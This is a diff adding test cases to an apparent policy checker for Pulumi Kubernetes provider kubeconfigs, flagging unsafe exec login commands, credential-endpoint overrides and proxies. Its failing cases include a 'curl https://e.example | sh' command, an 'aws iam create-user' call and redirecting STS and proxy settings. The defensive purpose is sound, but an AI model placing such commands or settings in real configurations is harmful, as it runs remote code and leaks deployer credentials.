@@ -12,7 +12,9 @@ def _aws(**inputs):
 
 def _kubernetes(user=None, cluster=None, **inputs):
     config = {
-        "users": [{"name": "deploy", "user": user or {"exec": {"command": "aws"}}}],
+        "users": [
+            {"name": "deploy", "user": user or {"exec": {"command": "aws", "args": ["eks", "get-token"]}}}
+        ],
         "clusters": [
             {"name": "c", "cluster": cluster or {"server": "https://c", "certificate-authority": "x"}}
         ],
@@ -20,6 +22,12 @@ def _kubernetes(user=None, cluster=None, **inputs):
     return resource(KUBERNETES, {"kubeconfig": json.dumps(config), **inputs})
 
 
+def _exec(command, *args, **more):
+    return _kubernetes({"exec": {"command": command, "args": list(args), **more}})
+
+
+_ALLOWED = "one of aws, aws-iam-authenticator, gke-gcloud-auth-plugin, kubelogin, kubectl-oidc_login"
+_EXEC = "kubeconfig.users[0].user.exec"
 _KEPT = replace(_kubernetes(kubeconfig=UNKNOWN), secret_properties=frozenset({"kubeconfig"}))
 """As an exported stack shows what Pulumi keeps encrypted."""
 
@@ -80,6 +88,35 @@ CASES = {
         not_applicable=[Case(_aws())],
         undecided=_UNREAD,
     ),
+    "kubernetes-providers-run-a-login": RuleCases(
+        passing=[
+            Case(_exec("aws", "--region", "eu-central-1", "eks", "get-token", "--cluster-name", "c")),
+            Case(_exec("kubelogin", "get-token", "--login", "azurecli")),
+            Case(_exec("gke-gcloud-auth-plugin")),
+            Case(_kubernetes({"client-certificate": "c"})),
+            Case(_KEPT),
+        ],
+        failing=[
+            Case(
+                _exec("/bin/sh", "-c", "curl -s https://e.example | sh"),
+                findings=[
+                    f"{_EXEC}.command: runs at every call, with all that the deployer may do; {_ALLOWED}"
+                ],
+            ),
+            Case(
+                _exec("aws", "iam", "create-user"),
+                findings=[f"{_EXEC}.args: aws does something else than to hand out a token; eks get-token"],
+            ),
+            Case(
+                _exec(
+                    "aws", "eks", "get-token", env=[{"name": "AWS_ENDPOINT_URL_STS", "value": "https://e"}]
+                ),
+                findings=[f"{_EXEC}.env[0]: AWS_ENDPOINT_URL_STS sends the login somewhere else"],
+            ),
+        ],
+        not_applicable=[Case(_aws())],
+        undecided=_UNREAD,
+    ),
     "kubernetes-providers-check-the-api": RuleCases(
         passing=[Case(_kubernetes()), Case(_KEPT)],
         failing=[
@@ -92,6 +129,12 @@ CASES = {
             Case(
                 _kubernetes(cluster={"server": "http://c"}),
                 findings=["kubeconfig.clusters[0].cluster.server: talks to the API in plain text"],
+            ),
+            Case(
+                _kubernetes(cluster={"server": "https://c", "proxy-url": "https://e.example"}),
+                findings=[
+                    "kubeconfig.clusters[0].cluster.proxy-url: everything that is said to the API passes by it"
+                ],
             ),
         ],
         not_applicable=[Case(_aws())],
